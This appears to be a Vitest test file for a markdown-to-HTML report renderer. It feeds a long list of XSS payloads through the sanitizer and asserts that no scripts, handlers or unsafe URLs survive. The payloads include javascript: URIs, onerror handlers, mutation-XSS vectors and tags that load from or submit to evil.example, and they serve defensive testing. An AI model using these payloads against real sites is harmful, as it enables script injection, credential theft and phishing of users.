// @vitest-environment jsdom
import { describe, expect, test } from 'vitest'
import { parseReport } from '../../src/markdown/parse.ts'
import { ATTRIBUTES, ELEMENTS } from '../../src/markdown/allowlist.ts'
import { renderReport } from '../../src/markdown/render.ts'

function show(text: string): HTMLElement {
  const page = document.createElement('div')
  const { html } = renderReport(parseReport(text), {
    link: (href) => ({ href, kind: 'external' }),
    picture: (src) => ({ kind: 'elsewhere', url: src }),
  })
  page.innerHTML = String(html)
  return page
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<script src=//evil.example></script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="jav&#x09;ascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>',
  '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](<javascript:alert(1)>) ![x](javascript:alert(1)) <javascript:alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '![x](x"onerror="alert(1))',
  '![x](https://e.example/a.png "\\" onerror=\\"alert(1)")',
  '<div style="position:fixed;inset:0">Sign in</div>',
  '<style>body{display:none}</style><link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>',
  '<form action=//evil.example><input name=token><button formaction=javascript:alert(1)>Go</button></form>',
  '<input type=image src=//evil.example><input autofocus onfocus=alert(1)>',
  '<select><option>x</option></select><textarea></textarea><dialog open>Token?</dialog>',
  '<div data-gam="picture" data-gam-key="[&quot;x&quot;]" class="markdown">x</div>',
  '<video src=x onerror=alert(1)></video><audio src=x></audio>',
  '<p popover id=p>x</p><button popovertarget=p>y</button><p contenteditable>z</p>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="//evil.example 1x" src="https://ok.example/a.png">',
  '<table background="//evil.example/a.png"><tr><td background="//evil.example">x</table>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<x-custom onclick=alert(1)>y</x-custom>',
  '<a href="https://ok.example" target="_blank" ping="//evil.example" onclick="alert(1)">x</a>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)//',
  '<a name="x" id="attributes"><b id="parentNode">x</b></a>',
  '</div></article><h1>Gam</h1>',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '# <img src=x onerror=alert(1)> x <script>alert(1)</script>',
]

// What Gam itself adds.
const OWN = ['data-gam', 'data-gam-key', 'data-gam-lang', 'referrerpolicy', 'loading', 'decoding']

describe('nothing in a report can run or spoof', () => {
  test.each(HOSTILE)('%s', (text) => {
    for (const element of show(`Before\n\n${text}\n\nAfter`).querySelectorAll('*')) {
      expect(ELEMENTS).toContain(element.tagName.toLowerCase())
      for (const { name, value } of element.attributes) {
        expect([...ATTRIBUTES, 'role', 'tabindex', ...OWN]).toContain(name)
        if (/^(?:href|src|srcset)$/.test(name)) {
          expect(value).toMatch(/^(?:https?:|#|\?|[\w./%-]*(?:$|[^\w:]))/)
          expect(value.replace(/\s/g, '')).not.toMatch(/^(?:java|vb)script:|^data:|evil/i)
        }
        if (name === 'data-gam') expect(value).toMatch(/^(?:anchor|scroll|dead)$/)
      }
    }
  })

  test('ids and names of a report never are those of the page', () => {
    const page = show('<p id="content">a</p><a name="location">b</a><p id="user-content-x">c</p>')
    expect([...page.querySelectorAll('[id]')].map((one) => one.id)).toEqual([
      'user-content-content',
      'user-content-location',
      'user-content-x',
    ])
    expect(page.querySelector('[name]')).toBeNull()
  })

  test('references to ids follow their prefix', () => {
    const page = show('<p id="n">note</p><b aria-describedby="n m">x</b>')
    expect(page.querySelector('b')?.getAttribute('aria-describedby')).toBe(
      'user-content-n user-content-m',
    )
  })

  test.each(['100', '65534', ' 65534', '65534x', '+65534'])(
    'a cell that spans %j is laid out as one',
    (span) => {
      const cell = show(`<table><tr><td colspan="${span}" rowspan="${span}">x</td></tr></table>`)
      expect(cell.querySelector('[colspan], [rowspan]')).toBeNull()
    },
  )
  test.each(['h323:call', 'web3://x', 'A0background:url(x)', 'c++:x'])(
    'a link with the protocol of %s leads nowhere, as on GitHub',
    (href) => {
      expect(show(`<a href="${href}">x</a>`).querySelector('[href]')).toBeNull()
    },
  )
  test.each(['a2b.md', '2017-06/x.md', 'v1.2/notes.md', '#a:b'])(
    '%s leads to a file or heading',
    (href) => {
      expect(show(`<a href="${href}">x</a>`).querySelector('a')?.getAttribute('href')).toBe(href)
    },
  )

  test('a span that a table may have stays', () => {
    const page = show('<table><tr><td colspan="3">x</td><th rowspan="12">y</th></tr></table>')
    expect(page.querySelector('td')?.colSpan).toBe(3)
    expect(page.querySelector('th')?.rowSpan).toBe(12)
  })

  test('all spans of a report together cover no more than a browser lays out', () => {
    const row = `<tr>${'<td colspan="50" rowspan="50">x</td>'.repeat(100)}</tr>`
    const page = show(`<table>${row}</table>\n\n<table>${row}</table>`)
    expect(page.querySelectorAll('td')).toHaveLength(200)
    expect(page.querySelectorAll('[colspan], [rowspan]').length).toBeLessThan(10)
    const honest = show(`<table>${'<tr><td colspan="2">x</td></tr>'.repeat(1000)}</table>`)
    expect(honest.querySelectorAll('[colspan]')).toHaveLength(1000)
  })

  test.each(['ruby', 'div', 'blockquote', 'details', 'table', 'ul', 'center'])(
    'of %s in itself, hundreds of times, the words stay and the depth does not',
    (name) => {
      const inside = { ruby: '<rt>', table: '<tr><td>', ul: '<li>' }[name] ?? ''
      const page = show(
        Array.from({ length: 400 }, (_, at) => `<${name}>${inside}w${at} `).join(''),
      )
      expect(depthOf(page)).toBeLessThan(60)
      expect(page.textContent.match(/w\d+/g)).toHaveLength(400)
    },
  )

  test('pictures that deep stay, and are cleaned like all others', () => {
    const evil =
      '<img src="https://x.example/a.png" onerror="ran()"><svg onload="ran()"><b></b></svg><script>ran()</script>'
    const page = show('<div>'.repeat(100) + evil)
    expect(page.querySelector('img')?.getAttribute('src')).toBe('https://x.example/a.png')
    expect(page.querySelector('[onerror], [onload], svg, script')).toBeNull()
  })

  test('lists and quotes as deep as people nest them stay', () => {
    const page = show('<ul><li>'.repeat(20) + 'x')
    expect(page.querySelectorAll('li')).toHaveLength(20)
  })

  test('what GitHub keeps is kept', () => {
    const kept =
      '<div align="center"><kbd lang="en" title="a: b" aria-label="Note: x">x</kbd></div><details open=""><summary>s</summary>t</details><ruby>漢<rt>kan</rt></ruby>'
    expect(show(kept).innerHTML.trim()).toBe(kept)
  })

  test('the words of what is dropped stay, save those of scripts and styles', () => {
    const page = show(
      '<center>Title</center>\n\n<FontIcon icon="x"/>Text <font>red</font>\n\n<li>alone</li>',
    )
    expect(page.textContent.replace(/\s+/g, ' ').trim()).toMatch(/^Title ?Text red alone$/)
    expect(page.querySelector('li')).toBeNull()
  })

  test('one report leaves nothing behind for the next', () => {
    show('[a](b)')
    expect(show('plain & simple').innerHTML).toBe('<p>plain &amp; simple</p>\n')
  })
})

function depthOf(page: Element): number {
  const depth = (element: Element): number => 1 + Math.max(0, ...[...element.children].map(depth))
  return depth(page)
}
